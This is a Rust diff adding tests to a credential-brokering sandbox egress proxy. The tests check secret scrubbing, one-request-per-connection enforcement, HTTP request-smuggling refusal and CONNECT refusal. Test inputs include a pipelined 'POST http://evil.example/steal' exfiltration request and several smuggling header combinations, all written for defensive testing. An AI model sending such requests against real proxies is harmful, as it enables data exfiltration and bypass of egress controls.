@@ -16,6 +16,8 @@ fn p(s: &str) -> HostPattern {
 struct Upstream {
     port: u16,
     accepted: Arc<AtomicUsize>,
+    /// Everything each connection sent first.
+    got: Arc<Mutex<Vec<String>>>,
 }
 
 async fn upstream() -> Upstream {
@@ -23,13 +25,19 @@ async fn upstream() -> Upstream {
     let port = l.local_addr().unwrap().port();
     let accepted = Arc::new(AtomicUsize::new(0));
     let count = accepted.clone();
+    let got_all = Arc::new(Mutex::new(Vec::new()));
+    let keep = got_all.clone();
     tokio::spawn(async move {
         while let Ok((mut s, _)) = l.accept().await {
             count.fetch_add(1, Ordering::SeqCst);
+            let keep = keep.clone();
             tokio::spawn(async move {
                 let mut buf = vec![0u8; 8192];
                 let n = s.read(&mut buf).await.unwrap_or(0);
                 let got = &buf[..n];
+                keep.lock()
+                    .unwrap()
+                    .push(String::from_utf8_lossy(got).into_owned());
                 if got.starts_with(b"GET ") || got.starts_with(b"HEAD ") {
                     let reply = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", got.len());
                     let _ = s.write_all(reply.as_bytes()).await;
@@ -46,7 +54,11 @@ async fn upstream() -> Upstream {
             });
         }
     });
-    Upstream { port, accepted }
+    Upstream {
+        port,
+        accepted,
+        got: got_all,
+    }
 }
 
 fn policy(up: &Upstream) -> EgressPolicy {
@@ -314,10 +326,18 @@ async fn credentials_are_brokered_for_their_host_and_refused_elsewhere() {
         up.port
     );
     let out = exchange(&px, req.as_bytes()).await;
+    // The host got the value; its echo of it comes back as the placeholder.
+    let got = up.got.lock().unwrap().join("\n");
     assert!(
-        out.contains("Authorization: Bearer real-secret-value"),
+        got.contains("Authorization: Bearer real-secret-value"),
+        "{got}"
+    );
+    assert!(got.contains("Accept-Encoding: identity\r\n"), "{got}");
+    assert!(
+        out.contains(&format!("Authorization: Bearer {ph}")),
         "{out}"
     );
+    assert!(!out.contains("real-secret-value"), "{out}");
     let req = format!("GET http://elsewhere.example:8080/ HTTP/1.1\r\nX-T: {ph}\r\n\r\n");
     let out = exchange(&px, req.as_bytes()).await;
     assert!(
@@ -334,4 +354,169 @@ async fn credentials_are_brokered_for_their_host_and_refused_elsewhere() {
     assert_eq!(c.iter().filter(|c| c.leak).count(), 2, "{c:?}");
     assert_eq!(c.iter().find(|c| c.allowed).unwrap().credentials, ["api"]);
     assert_eq!(up.accepted.load(Ordering::SeqCst), 1);
+}
+
+/// An upstream that answers the first request at once and keeps reading for a second: all it
+/// ever received.
+async fn keep_reading_upstream() -> (u16, Arc<Mutex<Vec<u8>>>) {
+    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = l.local_addr().unwrap().port();
+    let got = Arc::new(Mutex::new(Vec::new()));
+    let keep = got.clone();
+    tokio::spawn(async move {
+        while let Ok((mut s, _)) = l.accept().await {
+            let keep = keep.clone();
+            tokio::spawn(async move {
+                let mut buf = vec![0u8; 8192];
+                let mut answered = false;
+                let end = tokio::time::Instant::now() + Duration::from_millis(800);
+                while let Ok(Ok(n)) = tokio::time::timeout_at(end, s.read(&mut buf)).await {
+                    if n == 0 {
+                        break;
+                    }
+                    keep.lock().unwrap().extend_from_slice(&buf[..n]);
+                    if !answered {
+                        answered = true;
+                        let _ = s
+                            .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
+                            .await;
+                    }
+                }
+            });
+        }
+    });
+    (port, got)
+}
+
+/// Issue #49 item 9: a second request on the connection of an allowed one (pipelined, or sent
+/// after the first answer on a kept-alive connection) never reaches the upstream, and is
+/// recorded as refused with the host it named.
+#[tokio::test]
+async fn a_second_request_on_one_connection_is_recorded_and_never_forwarded() {
+    let (port, got) = keep_reading_upstream().await;
+    let entry = format!("127.0.0.1:{port}");
+    let mut pol = policy(&Upstream {
+        port,
+        accepted: Default::default(),
+        got: Default::default(),
+    });
+    pol.limited = true;
+    pol.allow = vec![p(&entry)];
+    let px = proxy(pol).await;
+    let second = "POST http://evil.example/steal HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 4\r\n\r\ndata";
+    for (first, pause) in [
+        // Pipelined: both at once, the second naming another host in its URL.
+        (
+            format!("GET http://{entry}/ HTTP/1.1\r\nHost: {entry}\r\n\r\n{second}"),
+            false,
+        ),
+        // Kept alive: the second after the first answer, in origin form with another Host.
+        (
+            format!(
+                "GET http://{entry}/ HTTP/1.1\r\nHost: {entry}\r\nConnection: keep-alive\r\n\r\n"
+            ),
+            true,
+        ),
+    ] {
+        got.lock().unwrap().clear();
+        let mut s = TcpStream::connect(px.addr()).await.unwrap();
+        s.write_all(first.as_bytes()).await.unwrap();
+        if pause {
+            tokio::time::sleep(Duration::from_millis(100)).await;
+            let _ = s
+                .write_all(
+                    b"POST /steal HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 4\r\n\r\ndata",
+                )
+                .await;
+        }
+        let mut out = Vec::new();
+        let _ = tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut out)).await;
+        let out = String::from_utf8_lossy(&out);
+        assert!(out.starts_with("HTTP/1.1 200 OK"), "{out}");
+        let seen = String::from_utf8_lossy(&got.lock().unwrap()).into_owned();
+        assert!(seen.starts_with("GET / HTTP/1.1\r\n"), "{seen}");
+        assert!(
+            !seen.contains("evil.example") && !seen.contains("POST"),
+            "the upstream got: {seen}"
+        );
+    }
+    let c = records(&px, 4).await;
+    assert_eq!(c.len(), 4, "{c:?}");
+    let refused: Vec<_> = c.iter().filter(|c| !c.allowed).collect();
+    assert_eq!(refused.len(), 2, "{c:?}");
+    for r in refused {
+        assert_eq!(
+            (r.host.as_str(), r.method.as_str()),
+            ("evil.example", "POST"),
+            "{r:?}"
+        );
+        assert!(
+            r.reason
+                .as_deref()
+                .unwrap()
+                .contains("one request per connection"),
+            "{r:?}"
+        );
+    }
+}
+
+/// Request smuggling shapes are refused before anything is sent, and recorded.
+#[tokio::test]
+async fn an_ambiguous_request_body_is_refused_before_anything_is_sent() {
+    let up = upstream().await;
+    let px = proxy(policy(&up)).await;
+    for extra in [
+        "Content-Length: 4\r\nContent-Length: 40",
+        "Transfer-Encoding: chunked\r\nContent-Length: 4",
+        "Transfer-Encoding: identity, chunked",
+    ] {
+        let req = format!(
+            "POST http://127.0.0.1:{}/ HTTP/1.1\r\n{extra}\r\n\r\n0\r\n\r\nGET http://127.0.0.1:{}/admin HTTP/1.1\r\n\r\n",
+            up.port, up.port
+        );
+        let out = exchange(&px, req.as_bytes()).await;
+        assert!(
+            out.starts_with("HTTP/1.1 403") && out.contains("smuggling"),
+            "{out}"
+        );
+    }
+    let req = format!(
+        "GET http://127.0.0.1:{}/ HTTP/1.1\r\nX-A: 1\r\n Content-Length: 5\r\n\r\n",
+        up.port
+    );
+    let out = exchange(&px, req.as_bytes()).await;
+    assert!(
+        out.starts_with("HTTP/1.1 400") && out.contains("folding"),
+        "{out}"
+    );
+    assert_eq!(up.accepted.load(Ordering::SeqCst), 0);
+    let c = records(&px, 3).await;
+    assert!(c.iter().all(|c| !c.allowed), "{c:?}");
+}
+
+/// A CONNECT to a host a credential is bound to is refused: the proxy cannot scrub a TLS
+/// tunnel's answers.
+#[tokio::test]
+async fn connect_to_a_host_a_credential_is_bound_to_is_refused() {
+    use crate::sandbox::net::creds::Credential;
+    let up = upstream().await;
+    let mut pol = policy(&up);
+    pol.credentials = Arc::from(vec![Credential {
+        name: "api".into(),
+        value: Ok("real-secret-value".into()),
+        hosts: vec![p(&format!("https://127.0.0.1:{}", up.port))],
+        header: None,
+        env: None,
+    }]);
+    let px = proxy(pol).await;
+    let out = exchange(
+        &px,
+        format!("CONNECT 127.0.0.1:{} HTTP/1.1\r\n\r\n", up.port).as_bytes(),
+    )
+    .await;
+    assert!(
+        out.starts_with("HTTP/1.1 403") && out.contains("TLS tunnel"),
+        "{out}"
+    );
+    assert_eq!(up.accepted.load(Ordering::SeqCst), 0);
 }
